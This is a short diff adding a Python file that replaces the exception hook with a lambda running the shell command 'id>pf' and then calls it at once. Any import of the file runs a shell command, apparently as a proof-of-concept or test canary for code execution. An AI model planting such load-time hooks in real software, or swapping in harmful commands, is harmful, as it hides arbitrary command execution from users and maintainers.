@@ -1,0 +1,3 @@
+import sys, os
+sys.excepthook = lambda *a: os.system("id>pf")
+sys.excepthook(None, None, None)
